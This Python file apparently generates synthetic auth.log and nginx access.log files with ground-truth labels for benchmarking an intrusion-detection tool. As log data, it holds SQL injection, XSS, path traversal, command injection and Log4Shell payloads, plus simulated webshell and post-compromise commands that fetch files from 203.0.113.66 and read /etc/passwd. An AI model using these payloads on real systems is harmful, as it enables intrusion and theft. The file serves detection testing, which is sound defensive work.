"""Deterministic generator of realistic auth.log and nginx access.log files with ground truth.

Why: benchmarks must compare hostwarden with its peers on the *same* large files, and the
detection issues need files whose attackers are known. Real logs of that size with labels do
not exist, so this writes them: a seeded mix of normal users, benign look-alikes (one mistyped
password, a product search for "select chair") and attackers of every common kind, with the
message wording of real OpenSSH/sudo/cron/nginx so fail2ban's stock filters match them.

Beside each file a ``<file>.truth.json`` lists the attacker IPs by class, the benign IPs and
line counts. Same seed and line count → same bytes.

    python bench/generate.py --lines 1000000 --out bench/out/ [--seed N] [--kind auth|access|both]
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import random
import sys
import time
from base64 import b64encode
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import weblogin  # noqa: E402  (login attackers and look-alikes of the access log)

START = datetime(2026, 11, 1, tzinfo=UTC)
SPAN_S = 7 * 86400
START_TS = int(START.timestamp())
HOST = "web-01"
MAXRETRY, FINDTIME_S = 5, 600  # fail2ban's default jail rule, used for the class definitions
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_PRIVATE = ((10, 8), (100 << 8 | 64, 10), (127, 8), (169 << 8 | 254, 16), (172 << 8 | 16, 12),
            (192 << 8 | 168, 16), (0, 8))


def iso(t: int) -> str:
    """ISO-8601 UTC time of offset ``t`` seconds from START (the ground truth's time format)."""
    return (START + timedelta(seconds=t)).isoformat().replace("+00:00", "Z")


def syslog_stamp(t: int) -> str:
    """RFC 3164 ``Mon DD HH:MM:SS`` (day space-padded) for offset ``t``."""
    d = START + timedelta(seconds=t)
    return f"{MONTHS[d.month - 1]} {d.day:2d} {d.hour:02d}:{d.minute:02d}:{d.second:02d}"


def nginx_stamp(t: int) -> str:
    """nginx ``$time_local`` (``01/Nov/2026:00:00:01 +0000``) for offset ``t``."""
    d = START + timedelta(seconds=t)
    return f"{d.day:02d}/{MONTHS[d.month - 1]}/{d.year}:{d.hour:02d}:{d.minute:02d}:{d.second:02d} +0000"


class IPPool:
    """Hands out unique, deterministic IPv4 addresses so no IP belongs to two classes."""

    def __init__(self, rng: random.Random) -> None:
        self.rng, self.used = rng, set[int]()

    def public(self) -> str:
        while True:
            n = self.rng.getrandbits(32)
            if n >> 24 in (0, 10, 127) or n >> 24 >= 224 or n in self.used:
                continue
            if any(n >> (32 - bits) == net for net, bits in _PRIVATE[1:] if bits != 8):
                continue
            self.used.add(n)
            return f"{n >> 24}.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}"

    def private(self) -> str:
        while True:
            n = (10 << 24) | self.rng.getrandbits(24)
            if n not in self.used:
                self.used.add(n)
                return f"10.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}"


class Lines:
    """Timestamped lines of one file, collected out of order, written sorted by time."""

    def __init__(self) -> None:
        self.items: list[tuple[int, str]] = []
        self.add = self.items.append

    def __len__(self) -> int:
        return len(self.items)

    def write(self, path: Path, stamp: Callable[[int], str], render: Callable[[str, str], str]) -> None:
        """Sort (stable: a session's lines in one second keep their order) and write in big chunks."""
        self.items.sort(key=lambda it: it[0])
        cache: dict[int, str] = {}
        with path.open("w", encoding="utf-8", buffering=1 << 22) as f:
            chunk: list[str] = []
            for t, text in self.items:
                s = cache.get(t)
                if s is None:
                    s = cache[t] = stamp(t)
                chunk.append(render(s, text))
                if len(chunk) >= 65536:
                    f.write("\n".join(chunk) + "\n")
                    chunk.clear()
            if chunk:
                f.write("\n".join(chunk) + "\n")
        os.utime(path, (START_TS + SPAN_S, START_TS + SPAN_S))  # year inference sees the right year


class Gen:
    """Shared state of one generated file: RNG, IPs, the lines, and the ground truth."""

    span = SPAN_S
    iso = staticmethod(iso)

    def __init__(self, seed: int, lines: int, salt: str) -> None:
        self.rng = random.Random(f"{seed}:{salt}")
        self.ips = IPPool(self.rng)
        self.out = Lines()
        self.target = lines
        self.truth: dict[str, object] = {}

    def quotas(self, shares: dict[str, float]) -> dict[str, int]:
        return {k: int(self.target * v) for k, v in shares.items()}

    def when(self, margin: int = 3600) -> int:
        return self.rng.randrange(0, SPAN_S - margin)


# ---------------------------------------------------------------------------------------------
# auth.log
# ---------------------------------------------------------------------------------------------
BF_USERS = ("admin", "test", "ubuntu", "oracle", "user", "support", "guest", "ftpuser", "pi", "mysql",
            "hadoop", "nagios", "tomcat", "www", "dev", "jenkins", "centos", "administrator", "123456")
SPRAY_USERS = ("alex", "andrew", "anna", "ben", "chris", "daniel", "david", "emma", "george", "james",
               "jason", "john", "kevin", "laura", "lisa", "maria", "mark", "michael", "mike", "nick",
               "paul", "peter", "robert", "sam", "sarah", "steve", "tom", "tony", "web", "webmaster",
               "info", "sales", "office", "backup1", "sysadmin", "operator", "student", "teacher", "demo",
               "temp", "vagrant", "docker", "ansible1", "minecraft", "teamspeak", "ts3", "steam", "git1",
               "gitlab", "odoo", "elastic", "kafka", "redis", "zabbix", "postgres1", "es", "ftp1", "www-data1")
DISTRIBUTED_USER = "git"      # valid account, one campaign from many IPs
COMPROMISED_USER = "deploy"   # valid account with a weak password
USERS = {"alice": 1000, "bob": 1002, "carol": 1003, "dave": 1004, "erin": 1005, "frank": 1006,
         "grace": 1007, "heidi": 1008, COMPROMISED_USER: 1001, DISTRIBUTED_USER: 1010, "backup": 1011}
BENIGN_CMDS = ("/usr/bin/systemctl restart nginx", "/usr/bin/apt update", "/usr/bin/journalctl -u nginx -n 50",
               "/usr/bin/tail -f /var/log/syslog", "/usr/bin/docker ps", "/usr/sbin/nginx -t",
               "/usr/bin/less /var/log/auth.log", "/bin/systemctl status postgresql")
CRON_CMDS = ("cd / && run-parts --report /etc/cron.hourly", "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
             "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
             "/usr/local/bin/backup.sh >/dev/null 2>&1", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )")
KEX_OFFER = "diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1"
AUTH_SHARES = {"fast": 0.30, "slow": 0.03, "spray": 0.10, "distributed": 0.07, "scan": 0.08, "benign": 0.22}


class AuthGen(Gen):
    """auth.log: sshd sessions of users and attackers, plus sudo, su, CRON, logind, useradd."""

    def __init__(self, seed: int, lines: int) -> None:
        super().__init__(seed, lines, "auth")
        self.pid, self.logind_session = 2000, 100
        self.failures: dict[str, int] = {}

    def next_pid(self) -> int:
        self.pid = self.pid + self.rng.randint(1, 40) if self.pid < 4_000_000 else 2000
        return self.pid

    def pam(self, ip: str, user: str | None) -> str:
        tail = f"  user={user}" if user else ""
        return f"logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}{tail}"

    def failed_conn(self, t: int, ip: str, user: str, n_fail: int, step: tuple[int, int] = (1, 3)) -> int:
        """One sshd connection with ``n_fail`` wrong passwords, worded as OpenSSH 8/9 logs it."""
        rng, add = self.rng, self.out.add
        valid = user in USERS or user == "root"
        sp, port = f"sshd[{self.next_pid()}]: ", rng.randint(1025, 65535)
        who = "authenticating user" if valid else "invalid user"
        inv = "" if valid else "invalid user "
        if not valid:
            add((t, f"{sp}Invalid user {user} from {ip} port {port}"))
            add((t, f"{sp}pam_unix(sshd:auth): check pass; user unknown"))
        add((t, f"{sp}pam_unix(sshd:auth): authentication failure; {self.pam(ip, user if valid else None)}"))
        for i in range(n_fail):
            t += rng.randint(*step) if i else 2
            add((t, f"{sp}Failed password for {inv}{user} from {ip} port {port} ssh2"))
        self.failures[ip] = self.failures.get(ip, 0) + n_fail
        if n_fail >= 6:
            add((t, f"{sp}error: maximum authentication attempts exceeded for {inv}{user} from {ip} port {port} ssh2 [preauth]"))
            add((t, f"{sp}Disconnecting {who} {user} {ip} port {port}: Too many authentication failures [preauth]"))
        if n_fail > 1:
            add((t, f"{sp}PAM {n_fail - 1} more authentication failures; {self.pam(ip, user if valid else None)}"))
        if n_fail < 6:
            if rng.random() < 0.5:
                add((t, f"{sp}Connection closed by {who} {user} {ip} port {port} [preauth]"))
            else:
                add((t, f"{sp}Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"))
                add((t, f"{sp}Disconnected from {who} {user} {ip} port {port} [preauth]"))
        return t

    def brute_force_fast(self, quota: int) -> list[dict[str, object]]:
        rng, out = self.rng, []
        n_ips = max(3, quota // 2000)
        for _ in range(n_ips):
            ip, t = self.ips.public(), self.when(6 * 3600)
            first, mine, users = t, max(40, int(quota / n_ips * rng.uniform(0.5, 1.5))), set[str]()
            stop = len(self.out) + mine
            while len(self.out) < stop:
                user = "root" if rng.random() < 0.6 else rng.choice(BF_USERS)
                users.add(user)
                t = self.failed_conn(t, ip, user, rng.choice((1, 1, 2, 3, 6, 6))) + rng.randint(0, 4)
            out.append({"ip": ip, "failures": self.failures[ip], "users": sorted(users),
                        "first": iso(first), "last": iso(t)})
        return out

    def brute_force_slow(self, quota: int) -> list[dict[str, object]]:
        """A few attempts an hour: never MAXRETRY within FINDTIME, so per-IP jails miss them."""
        rng, out = self.rng, []
        n_ips = max(2, quota // 1700)
        for _ in range(n_ips):
            ip, t = self.ips.public(), rng.randrange(0, 6 * 3600)
            first, stop = t, len(self.out) + max(60, quota // n_ips)
            while len(self.out) < stop and t < SPAN_S - 600:
                user = "root" if rng.random() < 0.5 else rng.choice(BF_USERS)
                self.failed_conn(t, ip, user, 1)
                last, t = t, t + rng.randint(FINDTIME_S + 120, 2400)
            out.append({"ip": ip, "failures": self.failures[ip], "first": iso(first), "last": iso(last)})
        return out

    def spray(self, quota: int) -> list[dict[str, object]]:
        rng, out = self.rng, []
        n_ips = max(2, quota // 3000)
        for _ in range(n_ips):
            ip, t = self.ips.public(), self.when(12 * 3600)
            first, stop, users = t, len(self.out) + max(100, quota // n_ips), set[str]()
            names = list(SPRAY_USERS)
            rng.shuffle(names)
            rnd = 0
            while len(self.out) < stop:
                for name in names:
                    user = name if rnd == 0 else f"{name}{rnd}"
                    users.add(user)
                    t = self.failed_conn(t, ip, user, 1) + rng.randint(3, 30)
                    if len(self.out) >= stop:
                        break
                rnd += 1
            out.append({"ip": ip, "failures": self.failures[ip], "distinct_users": len(users),
                        "first": iso(first), "last": iso(t)})
        return out

    def distributed(self, quota: int) -> list[dict[str, object]]:
        """Many IPs, one account, each IP under the per-IP threshold (≤ 3 tries, ≥ 15 min apart)."""
        rng, ips, t0 = self.rng, [], self.when(SPAN_S // 2)
        stop, first, last = len(self.out) + quota, SPAN_S, 0
        before = sum(self.failures.values())
        while len(self.out) < stop:
            ip = self.ips.public()
            ips.append(ip)
            t = t0 + rng.randrange(0, SPAN_S // 3)
            for _ in range(rng.randint(1, 3)):
                self.failed_conn(t, ip, DISTRIBUTED_USER, 1)
                first, last = min(first, t), max(last, t)
                t += rng.randint(900, 7200)
        return [{"user": DISTRIBUTED_USER, "ips": ips, "failures": sum(self.failures.values()) - before,
                 "max_failures_per_ip": max(self.failures[ip] for ip in ips),
                 "first": iso(first), "last": iso(last)}]

    def compromise(self) -> list[dict[str, object]]:
        """A fast brute force on a weak account that succeeds, then what the intruder does."""
        rng, add = self.rng, self.out.add
        ip, t = self.ips.public(), int(SPAN_S * 0.6)
        first = t
        for _ in range(7):
            t = self.failed_conn(t, ip, COMPROMISED_USER, 6) + rng.randint(1, 3)
        failures = self.failures[ip]
        t += 2
        sp, port, uid = f"sshd[{self.next_pid()}]: ", rng.randint(1025, 65535), USERS[COMPROMISED_USER]
        success = t
        add((t, f"{sp}Accepted password for {COMPROMISED_USER} from {ip} port {port} ssh2"))
        add((t, f"{sp}pam_unix(sshd:session): session opened for user {COMPROMISED_USER}(uid={uid}) by (uid=0)"))
        self.logind_session += 1
        sid = self.logind_session
        add((t, f"systemd-logind[412]: New session {sid} of user {COMPROMISED_USER}."))
        actions = [("/usr/bin/id", None),
                   ("/usr/bin/curl -fsSL http://203.0.113.66/x.sh -o /tmp/.x.sh", None),
                   ("/usr/sbin/useradd -m -s /bin/bash sysadm", "useradd"),
                   ("/usr/bin/passwd sysadm", "passwd"),
                   ("/usr/bin/crontab -e", "crontab")]
        for cmd, kind in actions:
            t += rng.randint(5, 40)
            add((t, f"sudo:   {COMPROMISED_USER} : TTY=pts/3 ; PWD=/home/{COMPROMISED_USER} ; USER=root ; COMMAND={cmd}"))
            add((t, f"sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {COMPROMISED_USER}(uid={uid})"))
            pid = self.next_pid()
            if kind == "useradd":
                add((t, f"useradd[{pid}]: new group: name=sysadm, GID=1012"))
                add((t, f"useradd[{pid}]: new user: name=sysadm, UID=1012, GID=1012, home=/home/sysadm, shell=/bin/bash, from=/dev/pts/3"))
            elif kind == "passwd":
                add((t + 4, f"passwd[{pid}]: pam_unix(passwd:chauthtok): password changed for sysadm"))
            elif kind == "crontab":
                add((t, f"crontab[{pid}]: (root) BEGIN EDIT (root)"))
                add((t + 9, f"crontab[{pid}]: (root) REPLACE (root)"))
                add((t + 9, f"crontab[{pid}]: (root) END EDIT (root)"))
            add((t + 10, "sudo: pam_unix(sudo:session): session closed for user root"))
        t += 60
        add((t, f"{sp}Received disconnect from {ip} port {port}:11: disconnected by user"))
        add((t, f"{sp}Disconnected from user {COMPROMISED_USER} {ip} port {port}"))
        add((t, f"{sp}pam_unix(sshd:session): session closed for user {COMPROMISED_USER}"))
        add((t, f"systemd-logind[412]: Session {sid} logged out. Waiting for processes to exit."))
        add((t, f"systemd-logind[412]: Removed session {sid}."))
        return [{"ip": ip, "user": COMPROMISED_USER, "failures_before": failures, "first": iso(first),
                 "success_time": iso(success), "new_user": "sysadm",
                 "post_compromise": [cmd for cmd, _ in actions]}]

    def scanners(self, quota: int) -> list[str]:
        rng, add, ips = self.rng, self.out.add, []
        stop = len(self.out) + quota
        while len(self.out) < stop:
            ip, t = self.ips.public(), self.when()
            ips.append(ip)
            for _ in range(rng.randint(1, 4)):
                sp, port = f"sshd[{self.next_pid()}]: ", rng.randint(1025, 65535)
                kind = rng.randrange(5)
                if kind == 0:
                    add((t, f"{sp}Did not receive identification string from {ip} port {port}"))
                elif kind == 1:
                    add((t, f"{sp}kex_exchange_identification: Connection closed by remote host"))
                    add((t, f"{sp}Connection closed by {ip} port {port}"))
                elif kind == 2:
                    add((t, f"{sp}Unable to negotiate with {ip} port {port}: no matching key exchange method found. Their offer: {KEX_OFFER} [preauth]"))
                elif kind == 3:
                    add((t, f"{sp}Bad protocol version identification 'GET / HTTP/1.1' from {ip} port {port}"))
                else:
                    add((t + 1, f"{sp}Connection closed by {ip} port {port} [preauth]"))
                t += rng.randint(1, 900)
        return ips

    def benign(self, quota: int) -> dict[str, object]:
        """Users logging in; a few mistype their password once and then succeed (≤ 2 per IP)."""
        rng, add = self.rng, self.out.add
        homes = {u: [self.ips.private() if rng.random() < 0.5 else self.ips.public() for _ in range(rng.randint(1, 3))]
                 for u in USERS if u != DISTRIBUTED_USER}
        typos: dict[str, int] = {}
        stop, sessions = len(self.out) + quota, 0
        while len(self.out) < stop:
            user = rng.choice(list(homes))
            ip, uid = rng.choice(homes[user]), USERS[user]
            t = self.when()
            sp, port = f"sshd[{self.next_pid()}]: ", rng.randint(1025, 65535)
            if user == "backup" or rng.random() < 0.6:
                add((t, f"{sp}Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{b64encode(rng.randbytes(32)).decode().rstrip('=')}"))
            else:
                if rng.random() < 0.08 and typos.get(ip, 0) < 2:
                    typos[ip] = typos.get(ip, 0) + 1
                    add((t, f"{sp}pam_unix(sshd:auth): authentication failure; {self.pam(ip, user)}"))
                    add((t + 1, f"{sp}Failed password for {user} from {ip} port {port} ssh2"))
                    self.failures[ip] = self.failures.get(ip, 0) + 1
                    t += rng.randint(3, 9)
                add((t, f"{sp}Accepted password for {user} from {ip} port {port} ssh2"))
            add((t, f"{sp}pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)"))
            self.logind_session += 1
            sid = self.logind_session
            add((t, f"systemd-logind[412]: New session {sid} of user {user}."))
            for _ in range(rng.choice((0, 0, 1, 2))):
                t += rng.randint(10, 600)
                if rng.random() < 0.05:
                    add((t, f"sudo: pam_unix(sudo:auth): authentication failure; logname={user} uid={uid} euid=0 tty=/dev/pts/0 ruser={user} rhost=  user={user}"))
                    t += 4
                add((t, f"sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={rng.choice(BENIGN_CMDS)}"))
                add((t, f"sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})"))
                add((t + 2, "sudo: pam_unix(sudo:session): session closed for user root"))
            if rng.random() < 0.05:
                t += rng.randint(10, 300)
                add((t, f"su: (to root) {user} on pts/0"))
                add((t, f"su: pam_unix(su-l:session): session opened for user root(uid=0) by {user}(uid={uid})"))
                add((t + 30, "su: pam_unix(su-l:session): session closed for user root"))
            t += rng.randint(60, 7200)
            add((t, f"{sp}Received disconnect from {ip} port {port}:11: disconnected by user"))
            add((t, f"{sp}Disconnected from user {user} {ip} port {port}"))
            add((t, f"{sp}pam_unix(sshd:session): session closed for user {user}"))
            add((t, f"systemd-logind[412]: Session {sid} logged out. Waiting for processes to exit."))
            add((t, f"systemd-logind[412]: Removed session {sid}."))
            sessions += 1
        ips = [ip for v in homes.values() for ip in v]
        return {"ips": ips, "users": sorted(homes), "sessions": sessions,
                "typo_then_success": sum(typos.values()), "typo_ips": sorted(typos)}

    def cron_fill(self) -> int:
        """Fill up to exactly the target with CRON jobs (3 lines each, then 1-line CMD records)."""
        rng, add, n = self.rng, self.out.add, 0
        while len(self.out) < self.target:
            t, pid, cmd = self.when(60), self.next_pid(), rng.choice(CRON_CMDS)
            if self.target - len(self.out) >= 3:
                add((t, f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"))
                add((t + 1, f"CRON[{pid}]: pam_unix(cron:session): session closed for user root"))
            add((t, f"CRON[{pid}]: (root) CMD ({cmd})"))
            n += 1
        return n

    def run(self) -> None:
        q = self.quotas(AUTH_SHARES)
        classes = {"brute_force_fast": self.brute_force_fast(q["fast"]),
                   "brute_force_slow": self.brute_force_slow(q["slow"]),
                   "spray": self.spray(q["spray"]),
                   "distributed_targets": self.distributed(q["distributed"]),
                   "compromised_after_bruteforce": self.compromise(),
                   "scanners": self.scanners(q["scan"]),
                   "benign": self.benign(q["benign"])}
        before_fill = len(self.out)
        cron_jobs = self.cron_fill()
        if len(self.out) > self.target:  # tiny --lines: attack minimums overshot the target
            print(f"note: {len(self.out)} lines (minimum for every class) > --lines {self.target}", file=sys.stderr)
        self.truth = {"classes": classes, "counts": {
            "lines": len(self.out), "failed_password_lines": sum(self.failures.values()),
            "cron_jobs": cron_jobs, "attack_and_session_lines": before_fill}}


# ---------------------------------------------------------------------------------------------
# access.log (nginx combined)
# ---------------------------------------------------------------------------------------------
BROWSER_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
PAGES = ("/", "/products", "/products/1042", "/products/2213", "/products/877", "/cart", "/checkout",
         "/about", "/contact", "/blog/how-we-build-chairs", "/blog/2026/11/black-friday", "/account",
         "/api/cart", "/api/products?page=2", "/products?category=tables&sort=price&order=desc")
ASSETS = ("/static/css/app.css", "/static/js/app.js", "/static/img/logo.svg", "/favicon.ico",
          "/static/img/products/1042.jpg", "/static/fonts/inter.woff2")
LOOKALIKES = ("/search?q=select+chair", "/search?q=union+station", "/search?q=drop+leaf+table",
              "/search?q=insert+for+drawer", "/search?q=script+writing+desk", "/search?q=password+manager",
              "/search?q=etc+shelf", "/search?q=sleep+mask", "/search?q=or+1+more+chairs",
              "/blog/select-the-right-chair", "/products?q=alert+lamp", "/search?q=bin+bags+%26+liners")
SITE = "https://shop.example.com"
ATTACKS: dict[str, tuple[tuple[str, str, int], ...]] = {  # type -> (method, path, status)
    "sqli": (("GET", "/products.php?id=1'+OR+'1'='1", 500),
             ("GET", "/products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", 200),
             ("GET", "/search?q=1%27%20AND%20SLEEP(5)--%20-", 200),
             ("GET", "/api/products?id=1;DROP%20TABLE%20users", 400),
             ("GET", "/products?id=-1+union+all+select+1,2,concat(user(),0x3a,database())--", 200)),
    "xss": (("GET", "/search?q=<script>alert(1)</script>", 200),
            ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", 200),
            ("GET", "/contact?name=%3Cimg%20src=x%20onerror=alert(1)%3E", 200),
            ("GET", "/search?q=javascript:alert(1)", 200)),
    "path_traversal": (("GET", "/../../../../etc/passwd", 400),
                       ("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 404),
                       ("GET", "/download?file=../../../../etc/shadow", 403),
                       ("GET", "/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts", 404)),
    "command_injection": (("GET", "/cgi-bin/ping?host=127.0.0.1;cat+/etc/passwd", 404),
                          ("GET", "/api/ping?host=8.8.8.8|id", 400),
                          ("GET", "/tools?cmd=$(whoami)", 404),
                          ("POST", "/api/export?format=csv%60wget+http://203.0.113.66/x%60", 400)),
    "log4shell": (("GET", "/?x=${jndi:ldap://203.0.113.66:1389/a}", 200),
                  ("GET", "/api/login?user=${${lower:j}ndi:${lower:l}dap://203.0.113.66/b}", 400)),
    "sensitive_files": (("GET", "/.env", 404), ("GET", "/.git/config", 404), ("GET", "/.aws/credentials", 404),
                        ("GET", "/config.php.bak", 404), ("GET", "/server-status", 403), ("GET", "/.DS_Store", 404)),
    "wordpress_probe": (("GET", "/wp-login.php", 404), ("POST", "/wp-login.php", 404), ("GET", "/xmlrpc.php", 404),
                        ("GET", "/wp-admin/setup-config.php", 404), ("GET", "/wordpress/wp-login.php", 404)),
    "scanner_ua": (("GET", "/", 200), ("GET", "/admin/", 404), ("GET", "/phpmyadmin/", 404),
                   ("GET", "/index.php?id=1%27", 200), ("HEAD", "/", 200), ("GET", "/robots.txt", 200)),
    "probe_404_burst": (("GET", "/admin", 404), ("GET", "/backup.zip", 404), ("GET", "/db.sql", 404),
                        ("GET", "/phpMyAdmin/scripts/setup.php", 404), ("GET", "/old/", 404), ("GET", "/test.php", 404),
                        ("GET", "/console", 404), ("GET", "/manager/html", 404), ("GET", "/api/v1/debug", 404)),
}
SCANNER_UAS = ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
               "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
               "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")
ATTACKER_UAS = ("python-requests/2.31.0", "curl/7.88.1", "Go-http-client/1.1",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36")
ACCESS_SHARES = {"attack": 0.15, "login_attack": 0.06, "benign_login": 0.06}


class AccessGen(Gen):
    """nginx access.log: shoppers browsing (with look-alike searches) and web attackers."""

    def __init__(self, seed: int, lines: int) -> None:
        super().__init__(seed, lines, "access")

    def req(self, t: int, ip: str, method: str, path: str, status: int, ua: str, ref: str = "-") -> None:
        size = 0 if method == "HEAD" else self.rng.randint(150, 48000) if status == 200 else self.rng.randint(150, 600)
        self.line(t, ip, method, path, status, size, ua, ref)

    def line(self, t: int, ip: str, method: str, path: str, status: int, size: int, ua: str, ref: str = "-",
             user: str = "-") -> None:
        """One combined-format line; `user` is nginx's $remote_user (the basic-auth name sent)."""
        self.out.add((t, f'{ip} - {user} [\0] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'))

    def attackers(self, quota: int) -> dict[str, object]:
        rng, by_type = self.rng, {k: [] for k in ATTACKS}
        stop = len(self.out) + quota
        kinds = list(ATTACKS)
        while len(self.out) < stop:
            for kind in kinds:
                ip, t, n = self.ips.public(), self.when(), rng.randint(5, 60)
                ua = rng.choice(SCANNER_UAS if kind == "scanner_ua" else ATTACKER_UAS)
                if kind == "log4shell" and rng.random() < 0.5:
                    ua = "${jndi:ldap://203.0.113.66:1389/ua}"
                for _ in range(n):
                    method, path, status = rng.choice(ATTACKS[kind])
                    self.req(t, ip, method, path, status, ua)
                    t += rng.randint(0, 2 if kind in ("probe_404_burst", "scanner_ua") else 20)
                by_type[kind].append({"ip": ip, "requests": n})
        ip, t = self.ips.public(), int(SPAN_S * 0.55)
        ua = ATTACKER_UAS[0]
        self.req(t, ip, "GET", "/account/avatar", 200, ua)
        self.req(t + 3, ip, "POST", "/uploads/x.php", 201, ua, f"{SITE}/account/avatar")
        first_cmd = t + 8
        for i, cmd in enumerate(("id", "uname+-a", "cat+/etc/passwd", "wget+http://203.0.113.66/m+-O+/tmp/m")):
            self.req(first_cmd + 5 * i, ip, "GET", f"/uploads/x.php?cmd={cmd}", 200, ua)
        return {"web_attackers": by_type,
                "webshell": [{"ip": ip, "upload": "/uploads/x.php", "upload_time": iso(t + 3),
                              "first_command_time": iso(first_cmd)}]}

    def benign(self, quota: int) -> dict[str, object]:
        rng = self.rng
        pool = [self.ips.public() for _ in range(max(50, quota // 40))]
        stop, lookalikes = len(self.out) + quota, 0
        while len(self.out) < stop:
            ip, ua, t = rng.choice(pool), rng.choice(BROWSER_UAS), self.when()
            ref = "-"
            for _ in range(rng.randint(2, 12)):
                if rng.random() < 0.08:
                    path, lookalikes = rng.choice(LOOKALIKES), lookalikes + 1
                else:
                    path = rng.choice(PAGES)
                status = 404 if rng.random() < 0.01 else 200
                self.req(t, ip, "GET", path, status, ua, ref)
                for asset in rng.sample(ASSETS, rng.randint(0, 3)):
                    self.req(t, ip, "GET", asset, 304 if rng.random() < 0.3 else 200, ua, SITE + path)
                ref, t = SITE + path, t + rng.randint(2, 90)
        self.fill(pool)
        return {"ips": pool, "lookalike_requests": lookalikes}

    def fill(self, pool: list[str]) -> None:
        while len(self.out) < self.target:
            self.req(self.when(60), self.rng.choice(pool), "GET", self.rng.choice(ASSETS), 200,
                     self.rng.choice(BROWSER_UAS), SITE + "/")

    def run(self) -> None:
        q = self.quotas(ACCESS_SHARES)
        attacks = self.attackers(q["attack"])
        logins = weblogin.attackers(self, q["login_attack"])
        benign_logins = weblogin.benign(self, q["benign_login"])
        benign = self.benign(self.target - len(self.out) - 60)  # a session is < 60 lines; fill() tops up
        benign["ips"] = benign["ips"] + benign_logins["ips"]
        benign["login_typos"] = benign_logins["login_typos"]
        self.truth = {"classes": {**attacks, "login_attackers": logins, "benign": benign}, "counts": {
            "lines": len(self.out), "attack_requests": sum(r["requests"] for v in attacks["web_attackers"].values()
                                                            for r in v) + 6}}


# ---------------------------------------------------------------------------------------------
def version() -> str:
    """Hash of this file and weblogin.py: data generated by another version is regenerated, never reused."""
    here = Path(__file__).resolve().parent
    return hashlib.sha256(b"".join((here / name).read_bytes() for name in ("generate.py", "weblogin.py"))).hexdigest()[:12]


def generate(kind: str, lines: int, out: Path, seed: int = 1) -> Path:
    """Write ``out/<kind>.log`` and ``out/<kind>.log.truth.json``; returns the log path."""
    gen: AuthGen | AccessGen = AuthGen(seed, lines) if kind == "auth" else AccessGen(seed, lines)
    gen.run()
    out.mkdir(parents=True, exist_ok=True)
    path = out / f"{kind}.log"
    if kind == "auth":
        gen.out.write(path, syslog_stamp, lambda stamp, text: f"{stamp} {HOST} {text}")
    else:  # access lines carry a NUL where the time stamp goes
        gen.out.write(path, nginx_stamp, lambda stamp, text: text.replace("\0", stamp, 1))
    truth = {"kind": kind, "file": path.name, "seed": seed, "generator": version(), "host": HOST, "start": iso(0), "end": iso(SPAN_S),
             "thresholds": {"maxretry": MAXRETRY, "findtime_s": FINDTIME_S}, **gen.truth}
    (out / f"{kind}.log.truth.json").write_text(json.dumps(truth, indent=1) + "\n", encoding="utf-8")
    return path


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--lines", type=int, default=1_000_000, help="lines per file (default 1,000,000)")
    ap.add_argument("--out", type=Path, default=Path(__file__).resolve().parent / "out")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--kind", choices=("auth", "access", "both"), default="both")
    args = ap.parse_args(argv)
    if args.lines < 1:
        ap.error("--lines must be positive")
    for kind in ("auth", "access") if args.kind == "both" else (args.kind,):
        t0 = time.perf_counter()
        path = generate(kind, args.lines, args.out, args.seed)
        print(f"{path}: {args.lines:,} lines in {time.perf_counter() - t0:.1f} s", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
